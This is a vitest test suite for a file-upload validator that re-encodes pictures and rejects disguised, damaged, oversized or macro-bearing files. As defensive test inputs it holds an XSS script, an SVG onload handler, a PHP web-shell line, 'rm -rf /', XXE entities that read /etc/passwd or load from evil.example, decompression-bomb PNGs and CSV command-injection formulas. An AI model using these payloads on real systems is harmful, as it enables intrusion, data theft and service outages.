import { crc32, deflateSync } from 'node:zlib'
import { mayUpload } from '@waybill/domain/files/kinds'
import { systemActor } from '@waybill/domain/kit/actor'
import { Problem } from '@waybill/domain/kit/problem'
import sharp from 'sharp'
import writeExcelFile from 'write-excel-file/node'
import { beforeAll, describe, expect, it } from 'vitest'
import { archiveOf } from '../../dev/test-kit/archive.ts'
import { checkFile } from './check-file.ts'

const script = '<script>alert(document.domain)</script>'
const svg = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`
const pdf = Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n')
const kml =
  '<?xml version="1.0"?><!-- a zone --><kml xmlns="http://www.opengis.net/kml/2.2"><Document/></kml>'

let jpeg: Buffer
let png: Buffer
let upside_down: Buffer

beforeAll(async () => {
  const drawing = () => sharp({ create: { width: 40, height: 20, channels: 3, background: '#0a0' } })
  jpeg = await drawing()
    .withExif({ IFD0: { Copyright: 'Naledi Mokoena', ImageDescription: script } })
    .jpeg()
    .toBuffer()
  png = await drawing().png().toBuffer()
  upside_down = await drawing().withMetadata({ orientation: 6 }).jpeg().toBuffer()
})

/** Builds a PNG chunk with its checksum. */
function piece(kind: string, content: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(kind, 'latin1'), content])
  const frame = Buffer.alloc(8)
  frame.writeUInt32BE(content.length, 0)
  frame.writeUInt32BE(crc32(body), 4)
  return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)])
}

/** Builds a PNG that declares the given width and height. Its compressed content is small but unpacks to `rows` rows. */
function bomb(width: number, height: number, rows = 0): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  head.set([8, 0, 0, 0, 0], 8)
  const content = deflateSync(Buffer.alloc(rows * (width + 1)))
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  return Buffer.concat([
    signature,
    piece('IHDR', head),
    piece('IDAT', content),
    piece('IEND', Buffer.alloc(0)),
  ])
}

/** Appends text to a file, which image decoders ignore. */
const withTail = (bytes: Buffer, tail: string) => Buffer.concat([bytes, Buffer.from(tail)])

async function rejectionOf(fileName: string, bytes: Buffer, folder = 'shipment-images'): Promise<string> {
  const outcome = await checkFile(folder, fileName, bytes).catch((error: unknown) => error)
  return outcome instanceof Problem ? outcome.message : `taken: ${fileName}`
}

describe('uploaded pictures', () => {
  it('re-encodes a picture upright, with its size and without metadata', async () => {
    expect(jpeg.includes('Naledi')).toBe(true)
    const taken = await checkFile('shipment-images', 'door.jpg', jpeg)
    expect([taken.content_type, taken.width, taken.height]).toEqual(['image/jpeg', 40, 20])
    expect(taken.bytes.includes('Naledi') || taken.bytes.includes('script')).toBe(false)
    const { format, exif, icc, xmp } = await sharp(taken.bytes).metadata()
    expect([format, exif, icc, xmp]).toEqual(['jpeg', undefined, undefined, undefined])
    const turned = await checkFile('shipment-images', 'door.jpeg', upside_down)
    expect([turned.width, turned.height]).toEqual([20, 40])
    expect((await checkFile('shipment-images', 'Door.PNG', png)).content_type).toBe('image/png')
  })

  it('removes data hidden inside a picture or appended to it', async () => {
    const textPiece = Buffer.concat([
      png.subarray(0, -12),
      piece('tEXt', Buffer.from(`Comment\0${script}`)),
      png.subarray(-12),
    ])
    const archive = `PK\u0003\u0004${script}PK\u0005\u0006`
    const carriers: [name: string, bytes: Buffer][] = [
      ['page.png', withTail(png, `<html>${script}</html>`)],
      ['page.jpg', withTail(jpeg, `<html>${script}</html>`)],
      ['archive.png', withTail(png, archive)],
      ['archive.jpg', withTail(jpeg, archive)],
      ['program.jpg', withTail(jpeg, `<?php system($_GET['c']); ?>${script}`)],
      ['document.png', withTail(png, `%PDF-1.7 ${script} %%EOF`)],
      ['comment.png', textPiece],
    ]
    for (const [name, bytes] of carriers) {
      const taken = await checkFile('shipment-images', name, bytes)
      expect(taken.bytes.includes('script') || taken.bytes.includes('PK'), name).toBe(false)
    }
  })

  it('rejects a file whose content does not match its extension', async () => {
    const liars: [name: string, bytes: Buffer][] = [
      ['logo.png', Buffer.from(svg)],
      ['logo.jpg', Buffer.from(svg)],
      ['logo.jpeg', Buffer.from(`<html>${script}</html>`)],
      ['logo.png', jpeg],
      ['logo.jpg', png],
      ['logo.png', Buffer.from('GIF89a')],
      ['logo.jpg', Buffer.from('RIFF\u0000\u0000\u0000\u0000WEBPVP8 ')],
      ['logo.jpg', pdf],
      ['logo.png', Buffer.from('MZ\u0090\u0000')],
      ['logo.jpg', Buffer.from('\u007fELF')],
      ['logo.jpg', Buffer.from('#!/bin/sh\nrm -rf /')],
    ]
    for (const [name, bytes] of liars)
      expect(await rejectionOf(name, bytes), String(bytes).slice(0, 12)).toBe(
        `${name} is not a ${name.split('.')[1]} file. Correct its name and send it again.`,
      )
  })

  it('rejects a damaged picture', async () => {
    const damaged: [name: string, bytes: Buffer][] = [
      ['torn.jpg', jpeg.subarray(0, jpeg.length - 60)],
      ['torn.png', png.subarray(0, png.length - 40)],
      ['head.jpg', jpeg.subarray(0, 20)],
      ['head.png', png.subarray(0, 20)],
      ['start.jpg', Buffer.from([0xff, 0xd8, 0xff, 0xe0])],
      ['flat.png', bomb(0, 0)],
    ]
    for (const [name, bytes] of damaged)
      expect(await rejectionOf(name, bytes)).toBe(
        `${name} is damaged and cannot be opened. Save it again as a picture and send that.`,
      )
  })

  it('rejects a picture with too many pixels even when the file is small', async () => {
    expect(await rejectionOf('bomb.png', bomb(30_000, 30_000))).toBe(
      'bomb.png has 30000 × 30000 pixels; at most 50 million fit. Send a smaller one.',
    )
    const packed = bomb(50_000, 1_001, 1_001)
    expect(packed.length).toBeLessThan(100_000)
    expect(await rejectionOf('packed.png', packed)).toContain('at most 50 million')
  })

  it('rejects a picture over 10 MB, and over 2 MB in provider-assets', async () => {
    const heavy = withTail(png, ' '.repeat(10 * 1024 * 1024))
    expect(await rejectionOf('photo.png', heavy)).toBe('photo.png is larger than 10 MB. Send a smaller one.')
    const logo = withTail(png, ' '.repeat(2 * 1024 * 1024))
    expect(await rejectionOf('logo.png', logo, 'provider-assets')).toBe(
      'logo.png is larger than 2 MB. Send a smaller one.',
    )
    expect(await rejectionOf('logo.png', logo)).toBe('taken: logo.png')
    expect(await rejectionOf('logo.png', Buffer.alloc(0))).toBe('logo.png is empty. Send it again.')
  })
})

describe('other uploaded files', () => {
  it('[FMT-027] rejects extensions that are not supported and accepts PDF, CSV and KML in any case', async () => {
    for (const name of [
      'a.svg',
      'a.html',
      'a.htm',
      'a.js',
      'a.gif',
      'a.xlsm',
      'a.php',
      'a.exe',
      'a',
      'png',
      'a.png.svg',
    ])
      expect(await rejectionOf(name, Buffer.from(svg)), name).toMatch(/^This file type is not allowed/)
    expect(await rejectionOf('A.PDF', pdf)).toBe('taken: A.PDF')
    expect(await rejectionOf('a.Csv', Buffer.from('a,b\n'), 'imports')).toBe('taken: a.Csv')
    expect(await rejectionOf('a.KML', Buffer.from(kml), 'imports')).toBe('taken: a.KML')
  })

  it('rejects documents whose content does not match the extension or is incomplete', async () => {
    expect(await rejectionOf('a.pdf', Buffer.from(`<html>${script}`))).toContain('is not a pdf file')
    expect(await rejectionOf('a.pdf', Buffer.from('%PDF-1.7 and no more'))).toContain('is incomplete')
    expect(await rejectionOf('a.csv', png, 'imports')).toContain('is not a csv file')
    expect(await rejectionOf('a.csv', Buffer.from('a,b\u0000'), 'imports')).toContain('is not a csv file')
    for (const text of [
      svg,
      `<html>${script}</html>`,
      '',
      'kml',
      '<!-- never ends',
      '<kmlx/>',
      '\u0000<kml/>',
    ])
      expect(await rejectionOf('a.kml', Buffer.from(text || ' '), 'imports'), text).toContain(
        'is not a kml file',
      )
    expect(await rejectionOf('a.kml', Buffer.from([0xff, 0xfe, 0x3c]), 'imports')).toContain(
      'is not a kml file',
    )
  })

  it('rejects KML that declares XML entities', async () => {
    for (const declaration of [
      '<!DOCTYPE kml [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>',
      '<!DOCTYPE kml SYSTEM "file:///etc/passwd">',
      '<!doctype kml [<!entity % x SYSTEM "http://evil.example/x">]>',
    ])
      expect(await rejectionOf('a.kml', Buffer.from(`${declaration}<kml>&b;</kml>`), 'imports')).toBe(
        'a.kml contains custom XML entities, which are not supported. Export it again without them.',
      )
  })

  it('[REP-010] accepts each file type only in its folders and only from permitted users', () => {
    const staff = { ...systemActor(1), kind: 'user' as const, role_id: 3, permissions: ['API_/s3-url/*'] }
    const administrator = { ...staff, permissions: ['API_/providers/settings:POST'] }
    const customer = { ...administrator, account_id: 5, role_id: 5 }
    const may = (actor: typeof staff, folder: Parameters<typeof mayUpload>[1], name: string) =>
      mayUpload(actor, folder, name) === true
    expect(may(staff, 'shipment-images', 'a.jpg')).toBe(true)
    expect(may(staff, 'shipment-images', 'a.csv')).toBe(false)
    expect(may(staff, 'provider-assets', 'a.png')).toBe(false)
    expect(may(customer, 'provider-assets', 'a.png')).toBe(false)
    expect(may(administrator, 'provider-assets', 'a.png')).toBe(true)
    expect(may(administrator, 'provider-assets', 'a.pdf')).toBe(false)
    const locations = { ...staff, permissions: ['API_/pickup-points:PATCH'] }
    expect(may(locations, 'provider-assets', 'a.png')).toBe(true)
    expect(may({ ...locations, account_id: 5, role_id: 5 }, 'provider-assets', 'a.png')).toBe(false)
    expect(may(staff, 'imports', 'a.csv')).toBe(true)
    expect(may(customer, 'imports', 'a.csv')).toBe(false)
    expect(may(administrator, 'exports', 'a.csv')).toBe(false)
  })
})

describe('uploaded spreadsheets', () => {
  const types = '[Content_Types].xml'
  const workbook = (listed: string, more: Record<string, string> = {}) =>
    archiveOf({ [types]: `<Types>${listed}</Types>`, 'xl/workbook.xml': '<workbook/>', ...more })

  it('are stored unchanged when they contain sheets only', async () => {
    const bytes = await writeExcelFile([[{ value: 'Box' }, { value: 3 }]]).toBuffer()
    const { content_type, bytes: stored } = await checkFile('shipment-files', 'list.xlsx', bytes)
    expect(content_type).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
    expect(stored.equals(bytes)).toBe(true)
  })

  it.each([
    ['a macro', workbook('<Override ContentType="application/vnd.ms-office.vbaProject"/>')],
    ['a macro without its type', workbook('', { 'xl/vbaProject.bin': 'x' })],
    ['an embedded program', workbook('<Override ContentType="application/vnd.x.oleObject"/>')],
    ['a formula of another file', workbook('<Override ContentType="a.externalLink+xml"/>')],
  ])('are rejected with %s', async (_, bytes) => {
    expect(await rejectionOf('list.xlsx', bytes, 'shipment-files')).toBe(
      'list.xlsx contains macros, embedded files or links to other files. Save it as a plain workbook and send that.',
    )
  })

  it('are rejected when they are another archive, damaged, or unpack to more than 64 MB', async () => {
    const rejection = (bytes: Buffer) => rejectionOf('list.xlsx', bytes, 'shipment-files')
    const other = 'list.xlsx is not an xlsx file. Correct its name and send it again.'
    const damaged = 'list.xlsx is damaged and cannot be opened. Save it again as a workbook and send that.'
    expect(await rejection(Buffer.from('Hi'))).toBe(other)
    expect(await rejection(archiveOf({ 'word/document.xml': '<document/>' }))).toBe(other)
    expect(await rejection(workbook('').subarray(0, 60))).toBe(damaged)
    expect(
      await rejection(archiveOf({ [types]: '<Types/>', 'xl/workbook.xml': '<workbook/>' }, 40 * 1024 * 1024)),
    ).toBe(damaged)
  })

  it('are rejected as CSV with a formula that starts a program', async () => {
    for (const line of ["=cmd|'/c calc'!A1", `a,"=cmd|' /c calc'!A1"`, "a;@x|'y'!z"])
      expect(await rejectionOf('rows.csv', Buffer.from(`a,b\n${line}\n`), 'shipment-files')).toBe(
        'rows.csv contains a formula that starts a program. Save it with the values only and send it again.',
      )
    const plain = "name,total\nOut | 'In'! now,=A1+B1\n"
    expect(await rejectionOf('rows.csv', Buffer.from(plain), 'shipment-files')).toBe('taken: rows.csv')
  })

  it('WebP pictures are drawn again, and rejected when they are no picture', async () => {
    const webp = await sharp({ create: { width: 40, height: 20, channels: 3, background: '#0a0' } })
      .webp()
      .toBuffer()
    const stored = await checkFile('shipment-files', 'box.webp', withTail(webp, script))
    expect([stored.content_type, stored.width, stored.bytes.includes(script)]).toEqual([
      'image/webp',
      40,
      false,
    ])
    expect(await rejectionOf('box.webp', Buffer.from('RIFFxxxxWEBPxxxx'), 'shipment-files')).toContain(
      'damaged',
    )
    expect(await rejectionOf('box.webp', jpeg, 'shipment-files')).toContain('is not a webp file')
  })
})
